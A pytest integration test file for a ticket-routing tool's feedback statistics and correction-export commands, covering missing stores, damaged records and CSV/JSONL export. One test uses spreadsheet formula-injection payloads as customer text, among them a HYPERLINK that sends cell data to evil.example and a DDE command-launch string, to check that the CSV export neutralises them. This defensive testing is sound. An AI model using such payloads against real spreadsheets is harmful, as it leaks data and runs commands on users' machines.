"""`ticket-router feedback stats|export` on a store that is missing, foreign, or the output."""

from __future__ import annotations

import csv
import json
import sqlite3
from pathlib import Path

import pytest

from adapters.local.sqlite_repository import SqliteDecisionRepository
from domain.models import Feedback, IssueClassification
from handlers.cli import main
from handlers.commands.feedback import EXPORT_FIELDS
from handlers.labelled_data import TextColumns, read_labelled
from tests.builders import NOW
from tests.integration.test_sqlite_repository import a_decision, damage


@pytest.fixture
def store(tmp_path: Path) -> Path:
    """A decision store with two decisions, one of them re-routed by an agent."""
    path = tmp_path / "decisions.db"
    repo = SqliteDecisionRepository(path)
    repo.save(a_decision("T-1", timestamp=1))
    repo.save(a_decision("T-2", timestamp=2))
    repo.record(Feedback(ticket_id="T-1", correct_team="Technical Support", recorded_at=NOW))
    repo.close()
    return path


@pytest.mark.parametrize(
    "command", [["feedback", "stats"], ["feedback", "export", "--output", "{tmp}/out.csv"]], ids=["stats", "export"]
)
def test_a_missing_store_is_refused_and_not_created(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], command: list[str]
) -> None:
    # Given a --db path where there is no store
    db = tmp_path / "typo" / "decisions.db"
    # When feedback is read from it
    code = main([c.format(tmp=tmp_path) for c in command] + ["--db", str(db)])
    # Then it fails saying so, and creates no store, directory or output
    assert code == 2
    assert capsys.readouterr().err == f"ticket-router: error: no decision store at {db}\n"
    assert not (tmp_path / "typo").exists() and not (tmp_path / "out.csv").exists()


def test_a_sqlite_file_of_another_application_is_refused_and_left_untouched(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    # Given some other application's SQLite database
    db = tmp_path / "other.db"
    with sqlite3.connect(db) as conn:
        conn.execute("CREATE TABLE customers (id INTEGER)")
    conn.close()
    before = db.read_bytes()
    # When feedback stats are asked of it
    code = main(["feedback", "stats", "--db", str(db)])
    # Then it is refused as not a decision store, with no table added
    assert code == 2
    assert "not a ticket-router decision store" in capsys.readouterr().err
    assert db.read_bytes() == before


def test_export_refuses_to_overwrite_the_decision_store(
    store: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    before = store.read_bytes()
    # When the export is pointed at the store itself
    code = main(["feedback", "export", "--db", str(store), "--output", str(tmp_path / "." / store.name)])
    # Then it refuses, and the store still holds its decisions
    assert code == 2
    assert "same file as the decision store" in capsys.readouterr().err
    assert store.read_bytes() == before
    repo = SqliteDecisionRepository(store)
    assert repo.count() == 2
    repo.close()


def test_stats_print_one_json_document_on_stdout(
    store: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    # Given metrics switched on, as they would be where a collector reads them
    monkeypatch.setenv("POWERTOOLS_METRICS_DISABLED", "false")
    # When the stats are printed
    assert main(["feedback", "stats", "--db", str(store)]) == 0
    captured = capsys.readouterr()
    # Then stdout is the stats alone, and the metric line went to stderr
    assert json.loads(captured.out) == {"decisions": 2, "rerouted": 1, "routing_accuracy": 0.5}
    assert '"RoutingAccuracy"' in captured.err


def test_stats_of_a_store_with_no_decision_claim_no_accuracy(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    # Given a decision store that has routed nothing yet, and metrics on
    db = tmp_path / "decisions.db"
    SqliteDecisionRepository(db).close()
    monkeypatch.setenv("POWERTOOLS_METRICS_DISABLED", "false")
    # When the stats are printed
    assert main(["feedback", "stats", "--db", str(db)]) == 0
    captured = capsys.readouterr()
    # Then the accuracy is unknown rather than 100%, and no metric claims one
    assert json.loads(captured.out) == {"decisions": 0, "rerouted": 0, "routing_accuracy": None}
    assert "RoutingAccuracy" not in captured.err


@pytest.mark.parametrize("command", ["stats", "export"])
def test_a_damaged_decision_with_feedback_is_left_out_and_named_not_fatal(
    store: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str], command: str
) -> None:
    # Given the re-routed decision's stored record damaged, and a correction of the other one
    repo = SqliteDecisionRepository(store)
    repo.record(Feedback(ticket_id="T-2", correct_team="Network Operations", recorded_at=NOW))
    damage(repo, "decisions", "T-1")
    repo.close()
    # When the stats or the corrections are asked for
    argv = ["feedback", "stats", "--db", str(store)]
    if command == "export":
        argv = ["feedback", "export", "--db", str(store), "--output", str(tmp_path / "out.jsonl"), "--all"]
    code = main(argv)
    err = capsys.readouterr().err
    # Then the rest is still reported, and the damaged ticket is named, with the exit of work left undone
    assert code == 1
    assert "the stored records of 1 ticket(s) could not be read and were left out: T-1" in err
    if command == "export":
        assert [json.loads(line)["ticket_id"] for line in (tmp_path / "out.jsonl").read_text().splitlines()] == ["T-2"]


def outage_rerouted_to_billing(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, billing_labels: str) -> Path:
    """A store with one ticket a queue model sent to its "outages" label (Network Operations), which
    an agent re-routed to Billing Support, whose labels are `billing_labels` rows of the label-team map."""
    label_map = tmp_path / "queues.csv"
    label_map.write_text(f"label,team\n{billing_labels}outages,Network Operations\n")
    monkeypatch.setenv("ROUTER_LABEL_TEAM_MAP", str(label_map))
    db = tmp_path / "decisions.db"
    repo = SqliteDecisionRepository(db)
    outages = IssueClassification(primary_category="outages", confidence=0.9)
    repo.save(
        a_decision("T-1").model_copy(update={"assigned_team": "Network Operations", "issue_classification": outages})
    )
    repo.record(Feedback(ticket_id="T-1", correct_team="Billing Support", recorded_at=NOW))
    repo.close()
    return db


def test_export_labels_corrections_with_the_label_team_maps_labels(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    # Given a deployment routing with a queue model's labels mapped onto the teams, and a ticket
    # the model sent to outages, which an agent re-routed to Billing Support
    db = outage_rerouted_to_billing(tmp_path, monkeypatch, "refunds,Billing Support\n")
    # When the corrections are exported for retraining
    out = tmp_path / "corrections.jsonl"
    assert main(["feedback", "export", "--db", str(db), "--output", str(out)]) == 0
    # Then the row is labelled with the queue model's own label for that team, which it can learn
    assert [json.loads(line)["category"] for line in out.read_text().splitlines()] == ["refunds"]


def test_customer_text_that_a_spreadsheet_would_run_is_exported_to_csv_as_text(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    # Given a re-routed ticket whose customer wrote formulas as subject and description
    db = tmp_path / "decisions.db"
    repo = SqliteDecisionRepository(db)
    subject = '=HYPERLINK("https://evil.example/?d="&A1,"Invoice")'
    description = "@SUM(1+1)*cmd|' /C calc'!A0"
    repo.save(a_decision("T-1").model_copy(update={"subject": subject, "description": description}))
    repo.record(Feedback(ticket_id="T-1", correct_team="Technical Support", agent_id="-agent", recorded_at=NOW))
    repo.close()
    # When the corrections are exported as CSV, and as JSONL
    csv_out, jsonl_out = tmp_path / "out.csv", tmp_path / "out.jsonl"
    assert main(["feedback", "export", "--db", str(db), "--output", str(csv_out)]) == 0
    assert main(["feedback", "export", "--db", str(db), "--output", str(jsonl_out)]) == 0
    # Then in the CSV no cell starts a formula: each is text behind an apostrophe
    with csv_out.open(newline="", encoding="utf-8") as handle:
        (row,) = list(csv.DictReader(handle))
    assert (row["subject"], row["description"], row["agent_id"]) == (f"'{subject}", f"'{description}", "'-agent")
    assert row["team"] == "Technical Support"
    # And the JSONL, which no spreadsheet opens, keeps the text as written
    (record,) = [json.loads(line) for line in jsonl_out.read_text().splitlines()]
    assert (record["subject"], record["description"], record["agent_id"]) == (subject, description, "-agent")
    # And the CSV read back as training data gives the customer's text as written, not the guard
    data = read_labelled(csv_out, TextColumns(text=None, subject="subject", body="description"), "team")
    assert data.texts == [f"{subject}\n{description}"]


def test_an_export_to_a_json_file_is_read_back_by_train(tmp_path: Path) -> None:
    # Given a decision an agent re-routed, exported to a file named .json
    db = tmp_path / "decisions.db"
    repo = SqliteDecisionRepository(db)
    repo.save(a_decision("T-1").model_copy(update={"subject": "No signal", "description": "no signal since noon"}))
    repo.record(Feedback(ticket_id="T-1", correct_team="Technical Support", recorded_at=NOW))
    repo.close()
    out = tmp_path / "corrections.json"
    assert main(["feedback", "export", "--db", str(db), "--output", str(out)]) == 0
    # When train's reader reads it with the columns the export suggests
    data = read_labelled(out, TextColumns(text=None, subject="subject", body="description"), "category")
    # Then the correction is a training row, not a malformed line
    assert data.problems == []
    assert data.texts == ["No signal\nno signal since noon"] and data.labels == ["Technical Problem"]


def test_customer_text_starting_with_an_apostrophe_and_a_formula_sign_survives_the_csv_round_trip(
    tmp_path: Path,
) -> None:
    # Given a re-routed ticket whose customer's text starts with an apostrophe before a formula sign,
    # as the reader's guard looks
    db = tmp_path / "decisions.db"
    repo = SqliteDecisionRepository(db)
    subject, description = "'=' key types nothing", "''-- in every message since the update"
    repo.save(a_decision("T-1").model_copy(update={"subject": subject, "description": description}))
    repo.record(Feedback(ticket_id="T-1", correct_team="Technical Support", recorded_at=NOW))
    repo.close()
    # When the corrections are exported as CSV and read back as training data
    out = tmp_path / "out.csv"
    assert main(["feedback", "export", "--db", str(db), "--output", str(out)]) == 0
    data = read_labelled(out, TextColumns(text=None, subject="subject", body="description"), "team")
    # Then the text is the customer's as written, no apostrophe of theirs taken off
    assert data.texts == [f"{subject}\n{description}"]


def test_an_export_says_how_many_corrections_have_no_label_to_train_on(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    # Given a queue model with two labels on Billing Support, and a ticket an agent re-routed there
    # without saying which
    db = outage_rerouted_to_billing(tmp_path, monkeypatch, "refunds,Billing Support\ninvoices,Billing Support\n")
    # When the corrections are exported
    out = tmp_path / "corrections.jsonl"
    assert main(["feedback", "export", "--db", str(db), "--output", str(out)]) == 0
    # Then the row is written without a label, and the export says train will skip it
    assert [json.loads(line)["category"] for line in out.read_text().splitlines()] == [""]
    assert "1 correction(s) have no category" in capsys.readouterr().out


def test_an_export_with_no_correction_says_so_instead_of_a_retraining_command(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    # Given a store with decisions but no feedback yet
    db = tmp_path / "decisions.db"
    repo = SqliteDecisionRepository(db)
    repo.save(a_decision("T-1", timestamp=1))
    repo.close()
    # When corrections are exported
    code = main(["feedback", "export", "--output", str(tmp_path / "out.csv"), "--db", str(db)])
    # Then an empty file is written, and the user is told there is nothing to retrain on, not sent
    # to a `train` that would fail on it
    out = capsys.readouterr().out
    assert code == 0
    assert "No re-routes (--all adds confirmations) recorded yet: nothing to retrain on" in out
    assert "Retrain with" not in out
    assert (tmp_path / "out.csv").read_text().splitlines() == [",".join(EXPORT_FIELDS)]
